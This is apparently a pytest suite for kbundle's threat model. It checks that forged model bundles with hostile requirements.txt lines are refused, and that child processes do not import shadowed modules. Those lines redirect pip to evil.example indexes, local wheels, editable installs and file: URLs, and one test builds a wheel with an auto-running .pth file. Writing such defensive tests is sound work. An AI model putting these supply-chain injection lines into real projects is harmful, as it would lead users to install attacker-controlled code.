"""THREATS.md rows 20, 22 (child processes) and 26 (undecodable requirements): rebuilding a
bundle's environment must install only pins from the index, and nothing kbundle starts may
import from the current directory, the extracted bundle or ``PYTHON*`` variables.

One real bundle is packed once; the hostile ones are honest forgeries of it (every digest
re-computed) whose ``env/requirements.txt`` (or lock, or ``env/`` members) differ. Each is
run through the real CLI. A refused ``env create`` must leave no directory and start no pip:
pip runs with ``PIP_LOG`` set, so any pip process that starts leaves its log file behind. The
package index is unreachable throughout, so nothing is downloaded.
"""

from __future__ import annotations

import base64
import hashlib
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from bundle_factory import Entry, forge, manifest_for, payload_entries, real_manifest
from conftest import (
    REPO,
    assert_clean_failure,
    child_env,
    env_with_unreachable_index,
    run_cli,
    run_python,
)

import kbundle
from kbundle.pipelines.rebuild import find_interpreter

pytestmark = pytest.mark.keras

REQUIREMENTS = "env/requirements.txt"
LOCK = "env/requirements.lock"

# The fixes each refusal names (kbundle/env/requirements.py), spelled out: the tests read the whole line.
PINS_ONLY = (
    "a bundle's requirements hold only name==version pins (with --hash=sha256 options in a "
    "hashed lock); re-pack the model with kbundle"
)
NEEDS_TRUST = (
    "pass --trust-code (trust_code=True) to let an https index, find-links location or "
    "'name @ https://...' requirement through"
)
NEVER_LOCAL = (
    "kbundle never lets pip install from the bundle, a local path, a file: URL or through "
    "another pip option, even with --trust-code; install such a package yourself"
)
NOT_HTTPS = "names a location other than a plain https URL"
CHOOSES_SOURCE = "chooses where pip downloads packages from"
PIP_OPTION = "is a pip option kbundle never passes on"
LOCAL = "installs from a path, a URL or a file"
NOT_A_PIN = "is not a name==version pin"
HASH = "0123456789abcdef" * 4

# (id, text appended to the honest pins, exit code, problem, fix, the logical line pip reads)
HOSTILE_LINES: list[tuple[str, str, int, str, str, str | None]] = [
    ("find-links-in-bundle", "--find-links .", 4, NOT_HTTPS, NEVER_LOCAL, None),
    ("find-links-https", "--find-links https://evil.example/wheels/", 4, CHOOSES_SOURCE,
     NEEDS_TRUST, None),
    ("index-url", "--index-url https://evil.example/simple", 4, CHOOSES_SOURCE, NEEDS_TRUST,
     None),
    ("short-index-url", "-i https://evil.example/simple", 4, CHOOSES_SOURCE, NEEDS_TRUST, None),
    ("extra-index-url-http", "--extra-index-url=http://evil.example/simple", 4, NOT_HTTPS,
     NEVER_LOCAL, None),
    ("index-url-expanding-a-variable", "--index-url https://evil.example/${HOME}/", 4,
     NOT_HTTPS, NEVER_LOCAL, None),
    ("editable", "-e .", 4, PIP_OPTION, NEVER_LOCAL, None),
    ("editable-vcs", "-e git+https://evil.example/x.git#egg=x", 4, PIP_OPTION, NEVER_LOCAL,
     None),
    ("relative-wheel", "./env/evil-1.0-py3-none-any.whl", 4, LOCAL, NEVER_LOCAL, None),
    ("bare-wheel", "evil-1.0-py3-none-any.whl", 4, LOCAL, NEVER_LOCAL, None),
    ("absolute-path", "/opt/evil", 4, LOCAL, NEVER_LOCAL, None),
    ("file-url", "file:///tmp/evil-1.0-py3-none-any.whl", 4, LOCAL, NEVER_LOCAL, None),
    ("name-at-file-url", "evil @ file:///tmp/evil", 4, NOT_HTTPS, NEVER_LOCAL, None),
    ("name-at-https-url", "evil @ https://evil.example/evil-1.0-py3-none-any.whl", 4,
     CHOOSES_SOURCE, NEEDS_TRUST, None),
    ("requirements-file", "-r other.txt", 4, PIP_OPTION, NEVER_LOCAL, None),
    ("constraints-file", "-c constraints.txt", 4, PIP_OPTION, NEVER_LOCAL, None),
    ("trusted-host", "--trusted-host evil.example", 4, PIP_OPTION, NEVER_LOCAL, None),
    ("per-requirement-option", "numpy==2.1.3 --config-settings=editable_mode=compat", 4,
     "passes pip the option '--config-settings'", NEVER_LOCAL, None),
    ("option-on-a-continuation-line", "numpy==2.1.3 \\\n--index-url https://evil.example/s", 4,
     "passes pip the option '--index-url'", NEVER_LOCAL,
     "numpy==2.1.3 --index-url https://evil.example/s"),
    ("marker", 'numpy==2.1.3; python_version >= "3"', 1, NOT_A_PIN, PINS_ONLY, None),
    ("extras", "numpy[dev]==2.1.3", 1, NOT_A_PIN, PINS_ONLY, None),
    ("unpinned", "numpy>=2", 1, NOT_A_PIN, PINS_ONLY, None),
    ("version-from-a-variable", "numpy==${NUMPY_VERSION}", 1, NOT_A_PIN, PINS_ONLY, None),
    ("hash-outside-the-lock", f"numpy==2.1.3 --hash=sha256:{HASH}", 1,
     "has --hash options outside the hashed lock", PINS_ONLY, None),
]  # fmt: skip


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory, keras: Any) -> Path:
    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(1)], name="env_threats")
    path = tmp_path_factory.mktemp("honest") / "model.kbundle"
    return kbundle.pack(model, path, probe=False).path


def _pins(honest: Path) -> bytes:
    return next(e.data for e in payload_entries(honest) if e.name == REQUIREMENTS)


def _forged(
    honest: Path,
    path: Path,
    requirements: bytes,
    *,
    lock: bytes | None = None,
    lock_member: str = LOCK,
    lock_hashed: bool = True,
) -> Path:
    """``honest`` with other requirements (and a ``lock``), every digest honest."""
    entries = [
        Entry(e.name, requirements, e.type) if e.name == REQUIREMENTS else e
        for e in payload_entries(honest)
    ]
    entries += [Entry(lock_member, lock)] if lock is not None else []
    manifest = manifest_for(entries, real_manifest(honest))
    if lock is not None:
        manifest["requirements"] = {
            "requirements": REQUIREMENTS,
            "lock": lock_member,
            "lock_hashed": lock_hashed,
        }
    return forge(path, manifest, entries)


def _refusal(member: str, number: int, problem: str, shown: str, fix: str) -> str:
    return f"kbundle: error: {member} line {number} {problem}: {shown!r}; {fix}\n"


def _assert_refused_create(
    result: subprocess.CompletedProcess[str], code: int, target: Path, pip_log: Path
) -> None:
    assert_clean_failure(result, code)
    assert not target.exists()  # refused before 'python -m venv'
    assert not pip_log.exists()  # and no pip process ever started


# --------------------------------------------------------------------------------------------
# Row 20: requirement lines are name==version pins (with --hash in a lock), nothing else


@pytest.mark.parametrize(
    ("line", "code", "problem", "fix", "shown"),
    [pytest.param(*case[1:], id=case[0]) for case in HOSTILE_LINES],
)
def test_row20_env_export_refuses_every_line_but_a_pin(
    honest: Path, tmp_path: Path, line: str, code: int, problem: str, fix: str, shown: str | None
) -> None:
    pins = _pins(honest)
    bundle = _forged(honest, tmp_path / "hostile.kbundle", pins + line.encode() + b"\n")
    number = pins.count(b"\n") + 1

    piped = run_cli("env", "export", bundle)  # what 'env export | pip install -r /dev/stdin' reads
    assert_clean_failure(piped, code)
    assert (piped.stdout, piped.stderr) == (
        "",
        _refusal(REQUIREMENTS, number, problem, shown or line, fix),
    )
    target = tmp_path / "requirements.txt"
    written = run_cli("env", "export", bundle, "-o", target)
    assert_clean_failure(written, code)
    assert not target.exists()


@pytest.mark.parametrize(
    ("line", "code", "problem", "fix", "shown"),
    [pytest.param(*case[1:], id=case[0]) for case in HOSTILE_LINES],
)
def test_row20_env_create_refuses_every_line_but_a_pin_before_any_process(
    honest: Path, tmp_path: Path, line: str, code: int, problem: str, fix: str, shown: str | None
) -> None:
    pins = _pins(honest)
    bundle = _forged(honest, tmp_path / "hostile.kbundle", pins + line.encode() + b"\n")
    number = pins.count(b"\n") + 1
    target, pip_log = tmp_path / "venv", tmp_path / "pip.log"

    result = run_cli(
        "env", "create", bundle, target, env=env_with_unreachable_index(PIP_LOG=str(pip_log))
    )

    _assert_refused_create(result, code, target, pip_log)
    assert result.stderr == _refusal(REQUIREMENTS, number, problem, shown or line, fix)


def _wheel(name: str, files: dict[str, str]) -> bytes:
    """A real pure-Python wheel of ``name`` 1.0 holding ``files`` (path -> text)."""
    info = f"{name}-1.0.dist-info"
    files = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
    }
    record = []
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in files.items():
            data = text.encode()
            archive.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{path},sha256={digest.decode()},{len(data)}\n")
        archive.writestr(f"{info}/RECORD", "".join(record) + f"{info}/RECORD,,\n")
    return buffer.getvalue()


def test_row20_a_wheel_with_a_pth_shipped_in_env_is_never_installed(
    honest: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "pth-ran"
    wheel = _wheel("evil", {"evil.pth": f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"})
    # The wheel travels as the manifest's (unhashed) lock, the one way a reader that refuses
    # unreferenced members lets it into env/; pip resolves '.' from the file's directory.
    bundle = _forged(
        honest,
        tmp_path / "wheel.kbundle",
        b"--find-links .\nevil==1.0\n",
        lock=wheel,
        lock_member="env/evil-1.0-py3-none-any.whl",
        lock_hashed=False,
    )
    target, pip_log = tmp_path / "venv", tmp_path / "pip.log"
    expected = _refusal(REQUIREMENTS, 1, NOT_HTTPS, "--find-links .", NEVER_LOCAL)

    for trust in ([], ["--trust-code"]):
        result = run_cli(
            "env",
            "create",
            bundle,
            target,
            *trust,
            env=env_with_unreachable_index(PIP_LOG=str(pip_log)),
        )
        assert not marker.exists()
        _assert_refused_create(result, 4, target, pip_log)
        assert result.stderr == expected


def test_row20_trust_code_lets_https_sources_through_and_nothing_local(
    honest: Path, tmp_path: Path
) -> None:
    pins = _pins(honest)
    number = pins.count(b"\n") + 1
    remote = (
        b"--index-url https://pypi.example/simple\n"
        b"--extra-index-url https://mirror.example/simple\n"
        b"-f https://wheels.example/\n"
        b"evil @ https://wheels.example/evil-1.0-py3-none-any.whl\n"
    )
    bundle = _forged(honest, tmp_path / "remote.kbundle", pins + remote)
    refused = run_cli("env", "export", bundle)
    assert_clean_failure(refused, 4)
    assert refused.stderr == (
        f"kbundle: error: {REQUIREMENTS} line {number} {CHOOSES_SOURCE}: "
        "'--index-url https://pypi.example/simple' (and 3 more problems); "
        f"{NEEDS_TRUST}\nall 4 problems:\n"
        + "".join(
            f"  - {REQUIREMENTS} line {number + i}: {CHOOSES_SOURCE} (found {shown!r})\n"
            for i, shown in enumerate(
                [
                    "--index-url https://pypi.example/simple",
                    "--extra-index-url https://mirror.example/simple",
                    "-f https://wheels.example/",
                    "evil @ https://wheels.example/evil-1.0-py3-none-any.whl",
                ]
            )
        )
    )
    trusted = run_cli("env", "export", bundle, "--trust-code")
    assert (trusted.returncode, trusted.stdout) == (0, (pins + remote).decode()), trusted.stderr

    # create gets past the check with trust: the next step, finding the interpreter, fails.
    target, pip_log = tmp_path / "venv", tmp_path / "pip.log"
    missing = tmp_path / "no-such-python"
    created = run_cli(
        "env", "create", bundle, target, "--trust-code", "--python", missing,
        env=env_with_unreachable_index(PIP_LOG=str(pip_log)),
    )  # fmt: skip
    _assert_refused_create(created, 2, target, pip_log)
    assert created.stderr.startswith(
        f"kbundle: error: python (--python) {missing} is Python (not runnable), the bundle was packed"
    )

    local = _forged(honest, tmp_path / "local.kbundle", pins + b"-e .\n")
    for command in (["export", local], ["create", local, target]):
        result = run_cli(
            "env", *command, "--trust-code", env=env_with_unreachable_index(PIP_LOG=str(pip_log))
        )
        _assert_refused_create(result, 4, target, pip_log)
        assert result.stderr == _refusal(REQUIREMENTS, number, PIP_OPTION, "-e .", NEVER_LOCAL)


def _lock_text(pins: bytes) -> bytes:
    """A lock as pip-compile --generate-hashes writes it, for the pins of ``pins``."""
    blocks = [
        f"{line} \\\n    --hash=sha256:{HASH} \\\n    --hash=sha256:{HASH[::-1]}\n"
        for line in pins.decode().splitlines()
        if line and not line.startswith("#")
    ]
    header = (
        "# Hash-locked closure (pip-compile --generate-hashes). Install with:\n"
        "#   pip install --no-deps --require-hashes -r requirements.lock\n"
    )
    return (header + "".join(blocks)).encode()


def test_row20_hashed_lock_lines_validate_and_a_lock_line_without_hash_is_refused(
    honest: Path, tmp_path: Path
) -> None:
    pins = _pins(honest)
    lock = _lock_text(pins)
    bundle = _forged(honest, tmp_path / "locked.kbundle", pins, lock=lock)
    exported = run_cli("env", "export", bundle)
    assert (exported.returncode, exported.stdout) == (0, lock.decode()), exported.stderr
    plain = run_cli("env", "export", bundle, "--pins")
    assert (plain.returncode, plain.stdout) == (0, pins.decode()), plain.stderr

    unhashed = _forged(honest, tmp_path / "unhashed.kbundle", pins, lock=lock + b"evil==1.0\n")
    number = lock.count(b"\n") + 1
    expected = _refusal(
        LOCK,
        number,
        "has no --hash=sha256 option, which every line of a hashed lock needs",
        "evil==1.0",
        PINS_ONLY,
    )
    refused = run_cli("env", "export", unhashed)
    assert_clean_failure(refused, 1)
    assert (refused.stdout, refused.stderr) == ("", expected)
    target, pip_log = tmp_path / "venv", tmp_path / "pip.log"
    created = run_cli(
        "env", "create", unhashed, target, env=env_with_unreachable_index(PIP_LOG=str(pip_log))
    )
    _assert_refused_create(created, 1, target, pip_log)
    assert created.stderr == expected


@pytest.mark.parametrize(
    ("before", "after", "number", "message"),
    [
        pytest.param(
            b"# -*- coding: cp037 -*-\n",
            b"",
            1,
            f"line 1 declares the encoding 'cp037', in which pip would read other lines: "
            f"'# -*- coding: cp037 -*-'; {PINS_ONLY}",
            id="foreign-coding-cookie",
        ),
        pytest.param(
            b"",
            "# caf\u00e9 \u0105\n".encode(),
            None,
            f"line {{number}} is not printable ASCII: '# caf\u00e9 \u0105'; {PINS_ONLY}",
            id="non-ascii",
        ),
    ],
)
def test_row20_requirements_pip_could_read_another_way_are_refused(
    honest: Path, tmp_path: Path, before: bytes, after: bytes, number: int | None, message: str
) -> None:
    pins = _pins(honest)
    bundle = _forged(honest, tmp_path / "encoded.kbundle", before + pins + after)
    line = number or pins.count(b"\n") + 1
    result = run_cli("env", "export", bundle)
    assert_clean_failure(result, 1)
    assert result.stderr == f"kbundle: error: {REQUIREMENTS} {message.format(number=line)}\n"


# --------------------------------------------------------------------------------------------
# Row 26: undecodable requirements are a format error, never exit 70


def test_row26_non_utf8_requirements_are_a_format_error(honest: Path, tmp_path: Path) -> None:
    pins = _pins(honest)
    bundle = _forged(honest, tmp_path / "latin1.kbundle", pins + b"# caf\xe9\nnumpy==2.1.3\n")
    number = pins.count(b"\n") + 1
    expected = (
        f"kbundle: error: {REQUIREMENTS} is not UTF-8 text: line {number} is b'# caf\\xe9'; "
        f"{PINS_ONLY}\n"
    )
    exported = run_cli("env", "export", bundle)
    assert_clean_failure(exported, 1)
    assert (exported.stdout, exported.stderr) == ("", expected)
    target, pip_log = tmp_path / "venv", tmp_path / "pip.log"
    created = run_cli(
        "env", "create", bundle, target, env=env_with_unreachable_index(PIP_LOG=str(pip_log))
    )
    _assert_refused_create(created, 1, target, pip_log)
    assert created.stderr == expected


# --------------------------------------------------------------------------------------------
# Row 22: children run isolated from the current directory and PYTHON* variables

# Run kbundle as its console script does: the parent's own sys.path holds neither the current
# directory nor PYTHONPATH, so a marker can only come from a child kbundle starts.
_CONSOLE = "import sys; sys.path.insert(0, sys.argv.pop(1)); from kbundle.cli import main; main()"


def _shadow_packages(directory: Path, names: tuple[str, ...]) -> Path:
    """Packages ``names`` in ``directory`` whose import (or ``-m``) writes a marker file."""
    markers = directory.parent / f"{directory.name}-markers"
    markers.mkdir()
    for name in names:
        package = directory / name
        package.mkdir(parents=True, exist_ok=True)
        touch = f"import pathlib; pathlib.Path({str(markers / name)!r}).touch()\n"
        (package / "__init__.py").write_text(touch)
        (package / "__main__.py").write_text(touch)
    return markers


def test_row22_doctor_from_inside_an_unpacked_tree_runs_none_of_its_code(
    honest: Path, tmp_path: Path
) -> None:
    tree = kbundle.unpack(honest, tmp_path / "tree").path
    markers = _shadow_packages(tree, ("code", "pip"))  # TensorFlow imports 'code' (via pdb)

    result = run_python(
        "-I", "-c", _CONSOLE, REPO, "doctor", "model/model.keras", cwd=tree, env=child_env()
    )

    assert sorted(p.name for p in markers.iterdir()) == []
    assert result.returncode == 0, result.stderr
    assert "verdict       healthy: the model loads" in result.stdout.splitlines()


def test_row22_env_create_children_never_import_from_the_current_directory(
    honest: Path, tmp_path: Path
) -> None:
    here = tmp_path / "here"
    markers = _shadow_packages(here, ("venv", "pip", "ensurepip", "kbundle"))
    target, pip_log = tmp_path / "venv-made", tmp_path / "pip.log"

    result = run_python(
        "-I", "-c", _CONSOLE, REPO, "env", "create", honest, target,
        cwd=here, env=env_with_unreachable_index(PIP_LOG=str(pip_log)),
    )  # fmt: skip

    assert sorted(p.name for p in markers.iterdir()) == []
    assert_clean_failure(result, 3)  # the real pip ran and could not reach the index
    assert "kbundle: error: pip install of the recorded requirements failed (exit 1): " in (
        result.stderr
    )
    assert pip_log.exists()
    assert not target.exists()


def test_row22_interpreter_probe_ignores_pythonpath(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    marker = tmp_path / "sitecustomize-ran"
    (shadow / "sitecustomize.py").write_text(
        f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
    )
    markers = _shadow_packages(shadow, ("pip",))
    monkeypatch.setenv("PYTHONPATH", str(shadow))
    monkeypatch.chdir(shadow)
    minor = f"{sys.version_info[0]}.{sys.version_info[1]}"

    assert find_interpreter(minor, python=sys.executable) == sys.executable

    assert not marker.exists()
    assert sorted(p.name for p in markers.iterdir()) == []
